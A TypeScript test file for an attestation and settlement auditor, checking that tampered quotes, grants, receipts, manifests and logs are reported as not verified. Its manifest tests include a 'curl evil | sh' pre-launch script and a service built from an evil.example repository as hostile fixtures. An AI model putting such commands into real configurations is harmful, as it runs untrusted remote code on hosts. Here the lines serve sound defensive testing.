import { Encrypter, generateX25519Identity, identityToRecipient } from "age-encryption";
import { expect } from "chai";
import { bytesToHex, type Hex, hexToBytes, sha256, zeroAddress } from "viem";
import { privateKeyToAccount } from "viem/accounts";
import { intelRootKey } from "../../../protocol/deployment.ts";
import {
  domainOf,
  hashGrant,
  hashOperatorAuthorization,
  hashReceipt,
  type Offer,
  priceUnits,
} from "../../../protocol/eip712.ts";
import { toJcs } from "../../../protocol/jcs.ts";
import type { NewLogEntry } from "../../../protocol/logEntry.ts";
import { hashLogHead } from "../../../protocol/logHead.ts";
import type { LogEvidence, ProvenEntry } from "../../../protocol/logJson.ts";
import { inclusionProof, leafHash, merkleRoot } from "../../../protocol/merkle.ts";
import { splitQuote } from "../../../protocol/quote/parseQuote.ts";
import { type Believed, nothingMore } from "../../../sdk/audit/believed.ts";
import {
  type Endorsement,
  type Evidence,
  isMissing,
  type PayerCredit,
  type Position,
  type Registration,
  type RegistrationCall,
  type RegistrationChange,
  type Settlement,
} from "../../../sdk/audit/evidence.ts";
import { gatherEvidence } from "../../../sdk/audit/gather/gatherEvidence.ts";
import { judge } from "../../../sdk/audit/judge.ts";
import { duesOf } from "../../../sdk/audit/lines/dues.ts";
import { logLines } from "../../../sdk/audit/lines/log.ts";
import { testAccount } from "../../support/chain.ts";
import { type Story, startStory } from "./story.ts";

const other: Hex = `0x${"12".repeat(32)}`;
const stranger = privateKeyToAccount(other);

/** The parts of an honest job's evidence that are never missing in it. */
type Whole = Omit<Evidence, "settlement" | "registration" | "ending"> & {
  settlement: Settlement & { grants: Exclude<Settlement["grants"], { missing: string }> };
  registration: Registration & { call: RegistrationCall };
  ending: NonNullable<Evidence["ending"]>;
};

type WholeLog = Omit<LogEvidence, "all"> & { all: string[] };
type SignedWord = Extract<LogEvidence["other"], { head: unknown }>;

function logOf({ worker }: Evidence): WholeLog {
  const { log } = worker;
  if (isMissing(log) || isMissing(log.all)) throw new Error("the story has a log");
  return log as WholeLog;
}

describe("judge", () => {
  let story: Story;
  let honest: Whole;
  before(async () => {
    story = await startStory();
    await story.settle(await story.receiptOk());
    const { chain, deployment, jobId, workerUrl, resultIdentity } = story;
    const evidence = await gatherEvidence({ chain: chain.public, deployment, jobId, workerUrl, resultIdentity });
    const { registration, settlement, ending } = evidence;
    if (isMissing(registration) || isMissing(registration.call) || settlement === undefined || ending === undefined)
      throw new Error("the story is not whole");
    honest = evidence as Whole;
  });
  after(() => story.close());

  /** Judges evidence after a change, and gives all lines that are not verified, with their reasons. */
  function falseLines(change: (evidence: Whole) => void): Record<string, string> {
    const evidence = structuredClone(honest);
    change(evidence);
    const lines = judge(evidence).filter((line) => line.verdict === "not verified");
    return Object.fromEntries(lines.map((line) => [line.id, line.reason]));
  }

  /** Verdict and reason of one line after a change. */
  function lineOf(id: string, change: (evidence: Whole) => void): string {
    const evidence = structuredClone(honest);
    change(evidence);
    const line = judge(evidence).find((found) => found.id === id);
    return `${line?.verdict}: ${line?.reason}`;
  }

  /** Shows a changed compose file, and a truly signed quote that measured it. */
  const withCompose = (change: object) => (e: Whole) => {
    const appCompose = JSON.stringify({ ...JSON.parse(story.shown.appCompose), ...change });
    Object.assign(e.worker.attestation, { appCompose });
    const mrConfigId = new Uint8Array(48);
    mrConfigId.set([1]);
    mrConfigId.set(hexToBytes(sha256(new TextEncoder().encode(appCompose))), 1);
    e.registration.call.quote = splitQuote(story.platform.quote(new Uint8Array(64), { mrConfigId }));
  };

  it("finds nothing false in honest evidence, and says the same twice", () => {
    expect(falseLines(() => {})).to.deep.equal({});
    expect(judge(honest)).to.deep.equal(judge(honest));
  });

  it("order: another hash, state, index, parameters, contracts", () => {
    expect(falseLines((e) => (e.opening.order.nonce += 1n))).to.deep.equal({ "order.id": "its hash is another" });
    expect(falseLines((e) => (e.state = "Open"))).to.deep.equal({
      "order.state": "stored Open, the events say SettledOk",
    });
    expect(falseLines((e) => (e.ending.index = 9n))).to.deep.equal({
      "order.state": "opened and ended under different indices",
    });
    expect(falseLines((e) => (e.opening.params = "0x7b20"))).to.deep.equal({
      "order.params": "they have another hash",
    });
    const wiring = (change: (e: Whole) => void) => falseLines(change)["order.contracts"];
    expect(wiring((e) => (e.wiring.enclaves = stranger.address))).to.equal("the market asks another enclave registry");
    expect(wiring((e) => (e.wiring.datasets = stranger.address))).to.equal("the market asks another data set registry");
    expect(wiring((e) => (e.wiring.verifier = stranger.address))).to.equal("the registry asks another verifier");
    expect(wiring((e) => (e.wiring.rootKey = intelRootKey))).to.equal("the verifier pins another root key");
  });

  it("attestation: every altered part of the quote, its certificates and its binding", () => {
    const quote = (change: (core: Uint8Array) => void) => (e: Whole) => {
      const core = hexToBytes(e.registration.call.quote.quote);
      change(core);
      e.registration.call.quote.quote = bytesToHex(core);
    };
    const signature = (change: (e: Whole) => void) => falseLines(change)["attestation.signature"];
    const altered = "Quote refused, TD signature: not valid.";
    expect(signature(quote((core) => core.fill(7, 48 + 136, 48 + 140)))).to.equal(altered);
    expect(signature(quote((core) => core.fill(7, 700, 704)))).to.equal("Quote refused, QE binding: another key.");
    expect(signature((e) => (e.registration.call.quote.quote = "0x04"))).to.match(/^Quote is malformed: size: 1 bytes/);
    expect(signature((e) => (e.registration.call.quote.pckLeaf = "0x"))).to.match(/^Malformed DER in certificate/);
    expect(signature((e) => (e.registration.platformId = other))).to.equal("the registration names another platform");
    expect(signature((e) => (e.registration.expiresAt = 2n ** 40n))).to.equal(
      "the registration outlives the certificates",
    );
    const debug = story.platform.quote(new Uint8Array(64), { tdAttributes: Uint8Array.of(1, 0, 0, 16, 0, 0, 0, 0) });
    expect(signature((e) => (e.registration.call.quote = splitQuote(debug)))).to.equal(
      "Quote refused, debug attribute: the host may read the VM's memory.",
    );
    expect(signature((e) => (e.registration.block.timestamp = 0n))).to.match(/^Quote refused, issuer dates/);
  });

  it("attestation: each field that the report data bind", () => {
    const binding = (change: (e: Whole) => void) => falseLines(change)["attestation.binding"];
    const unbound = "the report data bind something else";
    expect(binding((e) => (e.deployment.chainId = 1))).to.equal(unbound);
    expect(binding((e) => (e.deployment.contracts.enclaveRegistry = stranger.address))).to.equal(unbound);
    expect(binding((e) => (e.registration.call.operator = stranger.address))).to.equal(unbound);
    expect(binding((e) => (e.registration.call.signingKey = stranger.address))).to.equal(unbound);
    expect(binding((e) => (e.registration.call.vaultKey = other))).to.equal(unbound);
    expect(binding((e) => (e.registration.call.blockNumber += 1n))).to.equal(unbound);
    expect(binding((e) => Object.assign(e.registration.call.boundBlock, { hash: other }))).to.equal(unbound);
    const stale = "the quote is not fresh";
    expect(binding((e) => (e.registration.block.number = e.registration.call.blockNumber + 257n))).to.equal(stale);
    expect(binding((e) => (e.registration.block.number = e.registration.call.blockNumber))).to.equal(stale);
    const unsigned = "the registration is not signed by the key it names";
    expect(binding((e) => (e.registration.call.endpoint = "https://elsewhere.example"))).to.equal(unsigned);
    expect(binding((e) => (e.registration.call.signature = "0x"))).to.equal(unsigned);
    expect(binding((e) => (e.registration.operator = stranger.address))).to.equal("another operator was recorded");
    expect(binding((e) => (e.registration.vaultKey = other))).to.equal("another vault key was recorded");
    expect(binding((e) => (e.registration.signingKey = stranger.address))).to.equal("another signing key was recorded");
  });

  it("attestation: another workload, an expired or later registration, a storage that disagrees", () => {
    const workload = (change: (e: Whole) => void) => falseLines(change)["attestation.workload"];
    expect(workload((e) => (e.opening.order.workloadId = other))).to.match(/^the quote measures workload 0x/);
    expect(workload((e) => (e.registration.workloadId = other))).to.equal("the registration names another workload");
    expect(workload((e) => (e.settlement.receipt.workloadId = other))).to.equal("the receipt names another workload");
    const zero = story.platform.quote(new Uint8Array(64), { mrConfigId: new Uint8Array(48) });
    expect(workload((e) => (e.registration.call.quote = splitQuote(zero)))).to.equal(
      "MRCONFIGID is zero: nothing binds the VM to a compose file.",
    );
    const live = (change: (e: Whole) => void) => falseLines(change)["attestation.live"];
    expect(live((e) => (e.registration.expiresAt = e.ending.block.timestamp))).to.equal("it had expired");
    expect(live((e) => (e.registration.block.number = e.ending.block.number + 1n))).to.equal(
      "it was registered after the settlement",
    );
    expect(live((e) => (e.settlement.signer = stranger.address))).to.equal("the receipt's signer is another key");
    const unknown = { missing: "the registry's storage does not know the key" };
    expect(live((e) => (e.enclaveRecord = unknown))).to.equal(unknown.missing);
    const storage = (change: object) => live((e) => Object.assign(e.enclaveRecord, change));
    expect(storage({ operator: stranger.address })).to.equal("the registry's storage names another operator");
    expect(storage({ workloadId: other })).to.equal("the registry's storage names another workload");
    expect(storage({ platformId: other })).to.equal("the registry's storage names another platform");
    expect(storage({ evidenceHash: other })).to.equal(
      "the registry's storage names another vault key or platform state",
    );
  });

  it("attestation: what became of the registration counts from its position on", () => {
    const live = (...changes: RegistrationChange[]) =>
      lineOf("attestation.live", (e) => (e.registration.changes = changes));
    const { ending, registration } = honest;
    const [before, after] = [ending.block.number - 1n, ending.block.number + 1n].map((number) => ({
      block: { ...ending.block, number },
      logIndex: 0,
    })) as [Position, Position];
    const { tcb, tcbStatus } = registration;
    const renewed = { how: "renewed", tcbStatus, tcb } as const;
    const { timestamp } = ending.block;
    expect(live({ ...after, how: "retired" })).to.match(/^verified/);
    expect(live({ ...before, how: "retired" })).to.equal("not verified: it had been retired");
    expect(live({ ...before, how: "demoted", tcbStatus: 5 })).to.equal("not verified: it had been demoted");
    expect(live({ ...before, ...renewed, expiresAt: timestamp })).to.equal("not verified: it had expired");
    expect(live({ ...before, ...renewed, expiresAt: timestamp + 1n })).to.match(/^verified/);
    const expired = (e: Whole) => (e.registration.expiresAt = timestamp);
    const saved = (e: Whole) => (e.registration.changes = [{ ...after, ...renewed, expiresAt: timestamp + 99n }]);
    expect(lineOf("attestation.live", (e) => [expired(e), saved(e)])).to.equal("not verified: it had expired");
    const otherTcb = { ...tcb, qeIsvSvn: tcb.qeIsvSvn + 1 };
    expect(live({ ...after, ...renewed, tcb: otherTcb, expiresAt: timestamp + 99n })).to.match(/another vault key or/);
  });

  it("attestation: the operator sent the registration, signed for who did, or its contract says so", async () => {
    const operator = (change: (call: RegistrationCall) => void) =>
      lineOf("attestation.operator", (e) => change(e.registration.call));
    expect(operator(() => {})).to.equal("verified: it sent the registration itself");
    const neither = "not verified: neither did it send the registration, nor sign the authorization";
    const validUntil = 2n ** 40n;
    const sentBy = (signature: Hex, changes: Partial<RegistrationCall> = {}, until = validUntil) =>
      operator((call) => {
        const authorization = { validUntil: until, signature };
        Object.assign(call, { sender: stranger.address, authorization, ...changes });
      });
    expect(sentBy("0x")).to.equal(neither);
    const { chainId, contracts } = honest.deployment;
    const hash = hashOperatorAuthorization(domainOf(chainId, contracts.enclaveRegistry), {
      operator: honest.registration.call.operator,
      agent: stranger.address,
      validUntil,
    });
    const signed = await testAccount(4).sign({ hash });
    expect(sentBy(signed)).to.equal(`verified: it signed that ${stranger.address} registers enclaves in its name`);
    expect(sentBy(signed, {}, validUntil - 1n)).to.equal(neither);
    expect(sentBy(signed, {}, 1n)).to.match(/^not verified: its authorization had run out/);
    expect(sentBy("0x", { contractAccepts: true })).to.match(/^verified: its contract/);
    const missing = { missing: "nobody was asked" };
    expect(sentBy("0x", { contractAccepts: missing })).to.equal("cannot be verified: nobody was asked");
  });

  it("attestation: the patch level by the chain's word, and anew by the collateral that the chain had", () => {
    const tcb = (change: (e: Whole) => void) => lineOf("attestation.tcb", change);
    expect(tcb(() => {})).to.match(/^verified: UpToDate when registered, judged anew/);
    for (const [status, name] of [
      [0, "Unsupported"],
      [5, "OutOfDate"],
      [7, "Revoked"],
      [99, "Unsupported"],
    ] as const)
      expect(tcb((e) => (e.registration.tcbStatus = status))).to.equal(
        `not verified: the chain recorded ${name}; the deployment allows UpToDate, SWHardeningNeeded`,
      );
    expect(tcb((e) => (e.registration.tcbStatus = 2))).to.equal(
      "not verified: the chain recorded SWHardeningNeeded, judged anew it was UpToDate",
    );
    const missing = { missing: "some collateral does not show" };
    expect(tcb((e) => (e.registration.collateral = missing))).to.equal(
      "verified: the chain recorded UpToDate; not judged anew: some collateral does not show",
    );
    const now = Number(honest.registration.block.timestamp) - 60;
    const recovery = story.platform.collateral({ now, statuses: { platform: "OutOfDate" } });
    expect(tcb((e) => (e.registration.collateral = recovery))).to.match(
      /^not verified: judged anew: .*TCB policy: OutOfDate;/,
    );
    const forged = { ...story.platform.collateral({ now }), tcbInfo: recovery.tcbInfo };
    expect(tcb((e) => (e.registration.collateral = forged))).to.match(
      /^not verified: judged anew: .*TCB info signature/,
    );
    const revoked = story.platform.collateral({ now, revoked: { leaves: [story.platform.serials.pckLeaf] } });
    expect(tcb((e) => (e.registration.collateral = revoked))).to.match(/^not verified: judged anew: .*revoked/);
  });

  it("attestation: genuine hardware only under Intel's root key", () => {
    const simulated = lineOf("attestation.genuine", () => {});
    expect(simulated).to.match(/^cannot be verified: SIMULATED/);
    expect(lineOf("attestation.genuine", (e) => (e.deployment.rootKey = intelRootKey))).to.equal(
      "not verified: Quote refused, issuer signature: not valid.",
    );
  });

  it("code: scripts, unknown fields, variables of the host, public logs, loose images", () => {
    const line = (id: string, change: object) => lineOf(id, withCompose(change));
    expect(line("code.compose", {})).to.match(/^verified/);
    expect(line("code.launch", { pre_launch_script: "curl evil | sh", init_script: "x" })).to.equal(
      "not verified: the manifest runs init_script, pre_launch_script as root",
    );
    expect(line("code.launch", { bash_script: "x" })).to.equal(
      "not verified: the manifest has unknown fields: bash_script",
    );
    expect(line("code.launch", { allowed_envs: ["RPC_URL", "NODE_OPTIONS"] })).to.equal(
      "not verified: the host may set NODE_OPTIONS",
    );
    expect(line("code.launch", { allowed_envs: ["RPC_URL"] })).to.equal(
      "cannot be verified: SIMULATED: the platform measures the manifest, it does not launch from it",
    );
    expect(line("code.launch", { public_logs: true })).to.equal("not verified: the containers' logs are public");
    expect(line("code.launch", { public_logs: undefined })).to.equal("not verified: the containers' logs are public");
    const compose = (image: string) => ({ docker_compose_file: `services:\n  worker:\n    image: ${image}\n` });
    expect(line("code.images", compose("nginx:latest"))).to.match(
      /^cannot be verified: image nginx:latest is not pinned/,
    );
    const pinned = compose(`a/b@sha256:${"ab".repeat(32)}`);
    const images = (believed: Partial<Believed>, endorsements: Endorsement[] = []) => {
      const evidence = structuredClone(honest);
      withCompose(pinned)(evidence);
      const found = judge({ ...evidence, endorsements }, { ...nothingMore, ...believed });
      const { verdict, reason } = found.find(({ id }) => id === "code.images") ?? {};
      return `${verdict}: ${reason}`;
    };
    const open =
      "cannot be verified: images are pinned by digest: build them anew, or name an auditor whom you believe";
    expect(images({})).to.equal(open);
    expect(images({ images: [`sha256:${"ac".repeat(32)}`] })).to.equal(open);
    expect(images({ images: [`sha256:${"ab".repeat(32)}`] })).to.equal(
      "verified: the auditor built each image anew, and found its digest",
    );
    // One image that was built anew says nothing of a service that is built elsewhere.
    const beside = (more: string) => {
      const evidence = structuredClone(honest);
      withCompose({ docker_compose_file: `${pinned.docker_compose_file}${more}` })(evidence);
      const found = judge(evidence, { ...nothingMore, images: [`sha256:${"ab".repeat(32)}`] });
      const { verdict, reason } = found.find(({ id }) => id === "code.images") ?? {};
      return `${verdict}: ${reason}`;
    };
    const covers = "the measurement does not cover what that brings in";
    expect(beside("  evil:\n    build: https://evil.example/x.git\n")).to.equal(
      `cannot be verified: evil has no image: ${covers}`,
    );
    expect(beside("    build: .\n")).to.equal(`cannot be verified: worker has build: ${covers}`);
    expect(beside("include: [../other.yaml]\n")).to.equal(`cannot be verified: the file includes others: ${covers}`);
    const word = { auditor: stranger.address, sourceHash: other, endorsedAt: 1, withdrawnAt: 0 };
    const auditors = [stranger.address];
    expect(images({}, [word])).to.equal(open);
    expect(images({ auditors }, [{ ...word, withdrawnAt: 2 }])).to.equal(open);
    expect(images({ auditors }, [{ ...word, endorsedAt: 0 }])).to.equal(open);
    const { workloadId } = honest.opening.order;
    expect(images({ auditors }, [word])).to.equal(
      `verified: ${stranger.address} endorsed workload ${workloadId}, built from ${other}`,
    );
    expect(line("code.boot", {})).to.equal("not verified: its compose-hash event is another one");
  });

  it("code, chain: what the auditor expects and believes", () => {
    const said = (id: string, believed: Partial<Believed>) => {
      const line = judge(honest, { ...nothingMore, ...believed }).find((found) => found.id === id);
      return `${line?.verdict}: ${line?.reason}`;
    };
    const { workloadId } = honest.opening.order;
    expect(said("code.expected", { workloadId })).to.equal("verified: it is the named one");
    expect(said("code.expected", { workloadId: other })).to.equal(`not verified: the order names ${workloadId}`);
    expect(said("code.expected", {})).to.match(/^cannot be verified: no workload was named; the order's is 0x/);
    const { number, hash } = honest.anchor;
    const unchecked = `cannot be verified: compare block ${number}, hash ${hash}, with another source; the audit saw one RPC, and no proofs`;
    expect(said("chain.rpc", {})).to.equal(unchecked);
    // A block that is right proves nothing of what else the RPC said.
    expect(said("chain.rpc", { blocks: [{ number, hash }] })).to.equal(unchecked);
    expect(said("chain.rpc", { rpc: true })).to.match(/^verified: the auditor believes the RPC/);
    const shown = `not verified: it shows block ${number} as ${hash}, the auditor knows it as ${other}`;
    expect(said("chain.rpc", { rpc: true, blocks: [{ number, hash: other }] })).to.equal(shown);
    const both = [hash, other].map((one) => ({ number, hash: one }));
    expect(said("chain.rpc", { rpc: true, blocks: both })).to.equal(shown);
  });

  it("code: another program, or one that takes other inputs", () => {
    const right = lineOf("code.program", () => {});
    expect(right).to.equal("verified: a test program, 1 files, on quickjs 1");
    expect(falseLines((e) => (e.opening.order.programId = other))["code.program"]).to.match(
      /^the bundle is program 0x/,
    );
    const fewer = (e: Whole) => (e.opening.order.datasets = e.opening.order.datasets.slice(1));
    expect(falseLines(fewer)["code.program"]).to.equal("it takes another number of inputs");
  });

  it("consent: another owner, content, grant or signature", () => {
    const dataset = (change: object) =>
      falseLines((e) => Object.assign(e.datasets[0]?.registration ?? {}, change))["consent.1.dataset"];
    const unlike = "its id is not the hash of owner, content and salt";
    for (const change of [{ owner: stranger.address }, { contentHash: other }, { salt: other }])
      expect(dataset(change)).to.equal(unlike);
    const grant = (change: (signed: { grant: object; signature: Hex }) => void) =>
      falseLines((e) => {
        const [signed] = e.settlement.grants;
        if (signed !== undefined) change(signed);
      });
    expect(grant((signed) => Object.assign(signed.grant, { nonce: 1n }))["consent.1.grant"]).to.equal(
      "the grant has another hash",
    );
    const unsigned = "it is not signed by the owner";
    expect(grant((signed) => (signed.signature = "0x"))["consent.1.grant"]).to.equal(unsigned);
    const swapped = falseLines((e) => e.settlement.grants.reverse());
    expect(swapped["consent.1.grant"]).to.equal("the grant has another hash");
    expect(swapped["consent.2.terms"]).to.equal("it is for another data set");
  });

  it("consent: a stranger's signature, a high s, and a contract's word", async () => {
    const { deployment } = story;
    const signed = honest.settlement.grants[0];
    if (signed === undefined) throw new Error("no grant");
    const hash = hashGrant(domainOf(deployment.chainId, deployment.contracts.jobMarket), signed.grant);
    const foreign = await stranger.sign({ hash });
    const withSignature =
      (signature: Hex, contractAccepts = false) =>
      (e: Whole) => {
        const [first] = e.settlement.grants;
        if (first !== undefined) first.signature = signature;
        Object.assign(e.datasets[0] ?? {}, { contractAccepts });
      };
    expect(lineOf("consent.1.grant", withSignature(foreign))).to.equal("not verified: it is not signed by the owner");
    expect(lineOf("consent.1.grant", withSignature(highS(signed.signature)))).to.match(/^not verified/);
    expect(lineOf("consent.1.grant", withSignature("0x1234", true))).to.match(
      /^verified: .* is a contract, and accepts/,
    );
  });

  it("consent: terms that are not the order's, one by one", () => {
    const terms = (change: object) =>
      falseLines((e) => Object.assign(e.settlement.grants[0]?.grant ?? {}, change))["consent.1.terms"];
    expect(terms({ datasetId: other })).to.equal("it is for another data set");
    expect(terms({ programId: other })).to.equal("it is for another program");
    expect(terms({ workloadId: other })).to.equal("it is for another workload");
    expect(terms({ requester: stranger.address })).to.equal("it is for another requester");
    expect(terms({ operator: stranger.address })).to.equal("it is for another operator");
    expect(terms({ token: zeroAddress })).to.equal("it is for another token");
    expect(terms({ price: 1n })).to.equal(undefined); // under the ceiling; that it is another grant shows by its hash
    expect(terms({ price: 1_000_001n })).to.equal("it comes to 1000001, over the order's ceiling");
    const rows = (outputRows: bigint) =>
      falseLines((e) => {
        Object.assign(e.settlement.grants[0]?.grant ?? {}, { price: 250_000n, priceUnit: priceUnits.outputRow });
        e.settlement.receipt.outputRows = outputRows;
      })["consent.1.terms"];
    expect(rows(4n)).to.equal(undefined);
    expect(rows(5n)).to.equal("it comes to 1250000, over the order's ceiling");
    const bytes = (price: bigint) => terms({ price, priceUnit: priceUnits.inputByte });
    const { registration } = honest.datasets[0] ?? {};
    if (registration === undefined || isMissing(registration)) throw new Error("not registered");
    const perByte = 1_000_000n / BigInt(registration.sizeBytes);
    expect(bytes(perByte)).to.equal(undefined);
    expect(bytes(perByte + 1n)).to.match(/, over the order's ceiling$/);
  });

  it("consent: out of date, or revoked before the anchor or the settlement", () => {
    const force = (change: (e: Whole) => void) => falseLines(change)["consent.1.force"];
    const grant = (change: object) => force((e) => Object.assign(e.settlement.grants[0]?.grant ?? {}, change));
    const { timestamp } = honest.receiptAnchor as { timestamp: bigint };
    expect(grant({ notBefore: timestamp + 1n })).to.equal("it was not valid at the time of the anchor block");
    expect(force((e) => (e.ending.block.timestamp = 2n ** 60n))).to.equal(
      "it was not valid at the time of the settlement",
    );
    expect(grant({ epoch: 1 })).to.equal("all grants of its epoch were revoked before the anchor block");
    const at = (number: bigint, logIndex = 0) => ({ block: { ...honest.anchor, number }, logIndex });
    const anchor = honest.settlement.receipt.anchorBlock;
    const settled = honest.ending.block.number;
    const epoch = (where: object) => force((e) => e.datasets[0]?.epochs.push({ ...where, newEpoch: 1 } as never));
    expect(epoch(at(anchor))).to.equal("all grants of its epoch were revoked before the anchor block");
    expect(epoch(at(anchor + 1n))).to.equal("all grants of its epoch were revoked before the settlement");
    expect(epoch(at(settled + 1n))).to.equal(undefined);
    const nonce = (where: object) => force((e) => e.datasets[0]?.nonceRevocations.push(where as never));
    expect(nonce(at(anchor))).to.equal("it was revoked before the anchor block");
    expect(nonce(at(settled, -1))).to.equal("it was revoked before the settlement");
    expect(nonce(at(settled, honest.ending.logIndex + 1))).to.equal(undefined);
    const owner = (where: object) =>
      force((e) => e.datasets[0]?.ownerEpochs.push({ ...where, newOwnerEpoch: 1 } as never));
    expect(owner(at(anchor))).to.equal("all grants of its owner's epoch were revoked before the anchor block");
    expect(owner(at(settled, -1))).to.equal("all grants of its owner's epoch were revoked before the settlement");
    expect(owner(at(settled + 1n))).to.equal(undefined);
    const retired = (where: object) => force((e) => e.datasets[0]?.retirements.push(where as never));
    expect(retired(at(anchor))).to.equal("the data set was retired before the anchor block");
    expect(retired(at(settled, -1))).to.equal("the data set was retired before the settlement");
    expect(retired(at(settled + 1n))).to.equal(undefined);
  });

  it("consent: a small nonce that was revoked is fresh again in its owner's next epoch, a large one is not", () => {
    const at = (number: bigint) => ({ block: { ...honest.anchor, number }, logIndex: 0 });
    const revoked = (nonce: bigint, ownerEpoch: number) =>
      falseLines((e) => {
        const [dataset] = e.datasets;
        Object.assign(e.settlement.grants[0]?.grant ?? {}, { nonce, ownerEpoch });
        dataset?.nonceRevocations.push(at(2n));
        dataset?.ownerEpochs.push({ ...at(3n), newOwnerEpoch: 1 });
      })["consent.1.force"];
    expect(revoked(223n, 1)).to.equal(undefined);
    expect(revoked(224n, 1)).to.equal("it was revoked before the anchor block");
    expect(revoked(223n, 0)).to.equal("all grants of its owner's epoch were revoked before the anchor block");
  });

  it("consent: the grant must be signed by who owned the data set when the job settled", () => {
    const moved = (number: bigint) =>
      falseLines((e) =>
        e.datasets[0]?.transfers.push({ block: { ...honest.anchor, number }, logIndex: 0, to: stranger.address }),
      );
    expect(moved(honest.ending.block.number - 1n)["consent.1.grant"]).to.equal("it is not signed by the owner");
    expect(moved(honest.ending.block.number + 1n)).to.deep.equal({});
  });

  it("consent: what was not shown cannot be verified, also not who may read the result", () => {
    const free = (e: Whole) => e.settlement.grants.splice(0, 1, undefined);
    expect(lineOf("consent.1.grant", free)).to.match(/^cannot be verified: the grant is free and unlimited/);
    expect(lineOf("result.readers", free)).to.match(/^cannot be verified: the grant of data set 1 is free/);
  });

  it("receipt: unsigned, malleable, or of another signer", async () => {
    const { deployment } = story;
    const digest = hashReceipt(domainOf(deployment.chainId, deployment.contracts.jobMarket), honest.settlement.receipt);
    const foreign = await stranger.sign({ hash: digest });
    const signature = (change: (e: Whole) => void) => falseLines(change)["receipt.signature"];
    const unsigned = "the signature is not one by the named signer";
    for (const bad of ["0x", foreign, highS(honest.settlement.signature), `${honest.settlement.signature}00`] as Hex[])
      expect(signature((e) => (e.settlement.signature = bad))).to.equal(unsigned);
    expect(signature((e) => (e.settlement.receipt.fuelUsed += 1n))).to.equal("the market settled by another receipt");
    expect(signature((e) => (e.settlement.receiptHash = other))).to.equal("the market settled by another receipt");
    expect(signature((e) => Object.assign(e.settlement, { signature: foreign, signer: stranger.address }))).to.equal(
      "the signer is not the registered key",
    );
    const unregistered = { missing: "the key was never registered" };
    expect(signature((e) => Object.assign(e, { registration: unregistered }))).to.match(/never registered$/);
  });

  it("receipt: each field that is not the order's, and contradictions", () => {
    const fields = (change: object) => falseLines((e) => Object.assign(e.settlement.receipt, change))["receipt.order"];
    expect(fields({ jobId: other })).to.equal("it is for another job");
    expect(fields({ programId: other })).to.equal("it is for another program");
    expect(fields({ workloadId: other })).to.equal("it is for another workload");
    expect(fields({ paramsHash: other })).to.equal("it is for other parameters");
    expect(fields({ status: 0 })).to.equal("its status is neither Ok nor Failed");
    expect(fields({ failureCode: 99 })).to.equal("its failure code is unknown");
    const contradiction = "status, failure code and result contradict each other";
    expect(fields({ failureCode: 1 })).to.equal(contradiction);
    expect(fields({ status: 2 })).to.equal(contradiction);
    expect(fields({ resultHash: `0x${"00".repeat(32)}` })).to.equal(contradiction);
    const line = (id: string, change: object) => falseLines((e) => Object.assign(e.settlement.receipt, change))[id];
    expect(line("receipt.inputs", { inputsRoot: other })).to.equal("inputsRoot is another");
    expect(line("receipt.grants", { grantsRoot: other })).to.equal("grantsRoot is another");
    expect(line("receipt.policy", { policyHash: other })).to.equal("policyHash is another");
    expect(line("receipt.anchor", { anchorHash: other })).to.equal("the chain has another block there");
    expect(line("receipt.anchor", { anchorBlock: 1n })).to.equal("the anchor is another block");
    const late = falseLines((e) => (e.ending.block.number = e.settlement.receipt.anchorBlock));
    expect(late["receipt.anchor"]).to.equal("the anchor is not before the settlement");
    const old = (age: bigint) =>
      lineOf("receipt.anchor", (e) => (e.ending.block.number = e.settlement.receipt.anchorBlock + age));
    expect(old(8191n)).to.match(/^verified: /);
    expect(old(8192n)).to.equal("not verified: the anchor is too old");
    const reordered = falseLines((e) => {
      e.datasets.reverse();
      e.opening.order.datasets = [...e.opening.order.datasets].reverse();
    });
    expect(reordered["receipt.inputs"]).to.equal("inputsRoot is another");
    expect(reordered["receipt.grants"]).to.equal("grantsRoot is another");
  });

  it("log: another boot, entries that are changed, missing or not the run's, a history with gaps, a fork", async () => {
    /** Lets the enclave have written another log, with all proofs right, and its receipt commit to it. */
    const withEntries =
      (change: (entries: NewLogEntry[], e: Whole) => NewLogEntry[], at: Partial<NewLogEntry> = {}) =>
      (e: Whole) => {
        const log = logOf(e);
        const [boot, ...rest] = [...log.all].map((text) => JSON.parse(text) as NewLogEntry);
        const texts = [{ ...boot, ...at }, ...change(rest, e)].map(toJcs);
        const leaves = texts.map((text) => leafHash(new TextEncoder().encode(text)));
        const prove = (index: number): ProvenEntry => ({
          index,
          entry: texts[index] ?? "",
          proof: inclusionProof(leaves, index).map((hash) => bytesToHex(hash)),
        });
        const own = texts.flatMap((text, index) => (text.includes(`"jobId":"${e.jobId}"`) ? [index] : []));
        Object.assign(log, { all: texts, boot: prove(0), entries: own.map(prove), other: { missing: "not here" } });
        Object.assign(e.settlement.receipt, { logRoot: bytesToHex(merkleRoot(leaves)), logSize: BigInt(texts.length) });
      };
    const reason = (id: string, change: (e: Whole) => void) => {
      const evidence = structuredClone(honest);
      change(evidence);
      const line = logLines(evidence, evidence.settlement).find((found) => found.id === `receipt.${id}`);
      return `${line?.verdict}: ${line?.reason}`;
    };
    const without = (type: string) => withEntries((entries) => entries.filter((entry) => entry.type !== type));
    const changed = (type: string, fields: object) =>
      withEntries((es) => es.map((entry) => (entry.type === type ? ({ ...entry, ...fields } as NewLogEntry) : entry)));

    const same = withEntries((entries) => entries);
    expect(reason("log", same)).to.match(/^verified: entry 0 of 12, inclusion recomputed; no log before it$/);
    expect(reason("run", same)).to.equal("verified: 9 entries under the receipt's root");
    expect(reason("history", same)).to.equal("verified: all 12 entries read, root recomputed; 9 are about the job");
    expect(reason("growth", same)).to.equal("cannot be verified: not here");
    expect(reason("growth", () => {})).to.equal(
      "verified: consistent with 13 entries that its key signed when it was asked",
    );

    const boot = (at: object) =>
      reason(
        "log",
        withEntries((entries) => entries, at),
      );
    const foreign = { signingKey: stranger.address };
    expect(boot(foreign)).to.equal("not verified: another signing key began it");
    expect(boot({ vaultKey: other })).to.equal("not verified: its vault key is not the registered one");
    expect(boot({ workloadId: other })).to.equal("not verified: its workload is another");
    expect(boot({ type: "enclave.lost" })).to.equal("not verified: Entry 0 of the log is of no known kind.");
    const previous = { logId: stranger.address, root: other, size: 3, intact: false };
    expect(boot({ previous })).to.match(/; before it: log 0x\w{40} of 3 entries, damaged$/);

    const place = (step: RegExp) => new RegExp(`^not verified: this is not in its place: ${step.source}`);
    expect(reason("run", without("grant.checked"))).to.match(
      /^not verified: grant 0x\w{64} was not checked at the receipt's anchor$/,
    );
    expect(reason("run", changed("grant.checked", { anchorHash: other }))).to.match(
      /not checked at the receipt's anchor$/,
    );
    expect(reason("run", without("key.opened"))).to.match(place(/key\.opened/));
